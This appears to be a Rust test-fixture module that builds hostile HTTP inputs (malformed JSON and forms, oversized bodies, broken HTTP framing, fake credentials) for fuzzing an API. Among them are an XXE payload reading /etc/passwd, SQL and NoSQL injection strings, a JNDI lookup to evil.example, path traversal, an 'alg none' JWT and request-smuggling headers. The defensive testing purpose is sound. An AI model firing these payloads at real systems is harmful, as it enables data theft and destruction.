//! Bodies that no honest client sends.

/// A body with what its sender says about it.
#[derive(Clone)]
pub(crate) struct Hostile {
    pub(crate) name: String,
    pub(crate) headers: Vec<(&'static str, &'static str)>,
    pub(crate) body: Vec<u8>,
}

impl Hostile {
    fn new(name: impl Into<String>, kind: &'static str, body: impl Into<Vec<u8>>) -> Self {
        Self { name: name.into(), headers: vec![("content-type", kind)], body: body.into() }
    }
}

const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";

/// Bodies that are no JSON, or none that anybody wants.
pub(crate) fn json_bodies() -> Vec<Hostile> {
    let utf16: Vec<u8> = "{\"name\":\"x\"}".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let deep = |open: &str| open.repeat(100_000);
    let mut bodies = vec![
        Hostile::new("empty", JSON, ""),
        Hostile::new("a brace", JSON, "{"),
        Hostile::new("null", JSON, "null"),
        Hostile::new("a list", JSON, "[]"),
        Hostile::new("a text", JSON, "\"text\""),
        Hostile::new("a number", JSON, "123"),
        Hostile::new("no field at all", JSON, "{}"),
        Hostile::new("NULs", JSON, "\0\0\0"),
        Hostile::new("a NUL inside", JSON, "{\"name\":\"a\0b\"}"),
        Hostile::new("invalid UTF-8", JSON, *b"{\"name\":\"\xff\xfe\"}"),
        Hostile::new("an overlong slash", JSON, *b"{\"name\":\"\xc0\xaf\"}"),
        Hostile::new("a lone surrogate", JSON, "{\"name\":\"\\ud800\"}"),
        Hostile::new("surrogates the wrong way round", JSON, "{\"name\":\"\\udc00\\ud800\"}"),
        Hostile::new("deep lists", JSON, deep("[")),
        Hostile::new("deep objects", JSON, deep("{\"name\":")),
        Hostile::new("a deep list inside", JSON, format!("{{\"name\":{}", deep("["))),
        Hostile::new("a huge number", JSON, "{\"name\":1e999999}"),
        Hostile::new("a long number", JSON, format!("{{\"name\":{}}}", "9".repeat(100_000))),
        Hostile::new("NaN", JSON, "{\"name\":NaN}"),
        Hostile::new("a prototype", JSON, "{\"__proto__\":{\"admin\":true}}"),
        Hostile::new("text after it", JSON, "{} {}"),
        Hostile::new("a comment", JSON, "{/* */}"),
        Hostile::new("single quotes", JSON, "{'name':'x'}"),
        Hostile::new("a comma too much", JSON, "{\"name\":\"x\",}"),
        Hostile::new("a byte order mark", JSON, "\u{feff}{}"),
        Hostile::new("UTF-16", JSON, utf16),
        Hostile::new("arbitrary bytes", JSON, (0..=255).collect::<Vec<u8>>()),
        Hostile::new("a form", FORM, "name=x&email=y"),
        Hostile::new(
            "XML",
            "application/xml",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        ),
        Hostile::new("a type that is no type", "\u{20}", "{}"),
        Hostile::new("eleven megabytes", JSON, format!("{{\"name\":\"{}\"}}", "x".repeat(11 * 1024 * 1024))),
    ];
    for coding in ["gzip", "br", "deflate, gzip", "nonsense"] {
        let mut claimed =
            Hostile::new(format!("{coding} is claimed"), JSON, *b"\x1f\x8b\x08\0\0\0\0\0\0\xff not at all");
        claimed.headers.push(("content-encoding", coding));
        bodies.push(claimed);
    }
    bodies
}

/// Bodies that are no form, or none that anybody wants.
pub(crate) fn form_bodies() -> Vec<Hostile> {
    let mut bodies = vec![
        Hostile::new("half an escape", FORM, "email=%&password=%f"),
        Hostile::new("escaped invalid UTF-8", FORM, "email=%ff%fe"),
        Hostile::new("invalid UTF-8", FORM, *b"email=\xff\xfe"),
        Hostile::new("only separators", FORM, "&&&&====&&&"),
        Hostile::new("lists where texts belong", FORM, "email[]=a&password[]=b"),
        Hostile::new("objects where texts belong", FORM, "email[a][b]=a&password[c]=b"),
        Hostile::new("deep brackets", FORM, format!("email{}=x", "[a]".repeat(30_000))),
        Hostile::new("a hundred thousand fields", FORM, "a=b&".repeat(100_000)),
        Hostile::new("a huge index", FORM, "email[18446744073709551615]=x"),
        Hostile::new(
            "multipart",
            "multipart/form-data; boundary=x",
            "--x\r\nContent-Disposition: form-data; name=\"email\"\r\n\r\na\r\n--x--",
        ),
    ];
    bodies.extend(json_bodies());
    bodies
}

/// Every field of a good JSON object, replaced by what it mustn't be.
pub(crate) fn wrong_fields(good: &serde_json::Value) -> Vec<Hostile> {
    let mut bodies = Vec::new();
    for (field, value) in good.as_object().unwrap() {
        let wrong =
            ["-1", "1e400", "[[]]", "{\"a\":{}}", "\"\\u0000\"", "\"\\ud800\"", "18446744073709551616"];
        for wrong in wrong {
            let mut body = good.clone();
            body[field] = serde_json::json!("REPLACE");
            let body = body.to_string().replace("\"REPLACE\"", wrong);
            bodies.push(Hostile::new(format!("{field}: {wrong}"), JSON, body));
        }
        let twice = format!("{{\"{field}\":{value},{}", &good.to_string()[1..]);
        bodies.push(Hostile::new(format!("{field} twice"), JSON, twice));
    }
    let mut unknown = good.clone();
    unknown["is_admin"] = serde_json::json!(true);
    bodies.push(Hostile::new("an unknown field", JSON, unknown.to_string()));
    bodies
}

/// What somebody may send instead of a credential.
pub(crate) fn credentials() -> Vec<Vec<u8>> {
    vec![
        b"".to_vec(),
        b"sk_".to_vec(),
        b"rk_prod_".to_vec(),
        b"rk_prod_\xff\xfe\xfd".to_vec(),
        (0x80..=0xff).collect(),
        b"\t\t".to_vec(),
        vec![b'A'; 58],
        [b"rk_prod_".to_vec(), vec![b'a'; 50]].concat(),
        [b"rk_prod_".to_vec(), vec![b'a'; 30_000]].concat(),
        b"' OR '1'='1' --".to_vec(),
        b"rk_prod_'; DROP TABLE api_keys; --".to_vec(),
        b"eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.".to_vec(),
        "rk_prod_７Hq2xV9mLw4T".as_bytes().to_vec(),
        b"null".to_vec(),
        b"undefined".to_vec(),
        b"%00".to_vec(),
        b"../../etc/passwd".to_vec(),
        b"${jndi:ldap://evil.example/a}".to_vec(),
        b"{\"$ne\":null}".to_vec(),
        b"rk_prod_a rk_prod_b".to_vec(),
        b"rk_prod_a,rk_prod_b".to_vec(),
    ]
}

/// Whole requests that break HTTP itself, each for `path`.
pub(crate) fn broken_http(path: &str) -> Vec<(&'static str, Vec<u8>)> {
    let head = format!("POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n");
    let with = |rest: &str| format!("{head}{rest}").into_bytes();
    vec![
        ("two lengths", with("Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}x")),
        ("a length and chunks", with("Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")),
        ("a negative length", with("Content-Length: -1\r\n\r\n")),
        ("a length that is no number", with("Content-Length: two\r\n\r\n{}")),
        ("a chunk of no size", with("Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n")),
        ("an endless chunk", with("Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n")),
        ("an unknown transfer coding", with("Transfer-Encoding: gzip\r\n\r\nx")),
        ("a space before the colon", with("Authorization : Bearer x\r\nContent-Length: 0\r\n\r\n")),
        ("a folded header", with("X-A: a\r\n b\r\nContent-Length: 0\r\n\r\n")),
        ("a NUL in a header", with("X-A: a\0b\r\nContent-Length: 0\r\n\r\n")),
        ("a megabyte of headers", with(&format!("X-A: {}\r\n\r\n", "a".repeat(1024 * 1024)))),
        ("a thousand headers", with(&format!("{}\r\n", "X-A: a\r\n".repeat(1_000)))),
        ("no method", format!(" {path} HTTP/1.1\r\n\r\n").into_bytes()),
        ("no version", format!("POST {path}\r\n\r\n").into_bytes()),
        ("a version to come", format!("POST {path} HTTP/9.9\r\n\r\n").into_bytes()),
        ("bytes", (0..=255).chain(*b"\r\n\r\n").collect()),
        ("TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n".to_vec()),
        ("half of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\xff\xff\xff\xff\xff\xff\xff\xff\xff".to_vec()),
    ]
}
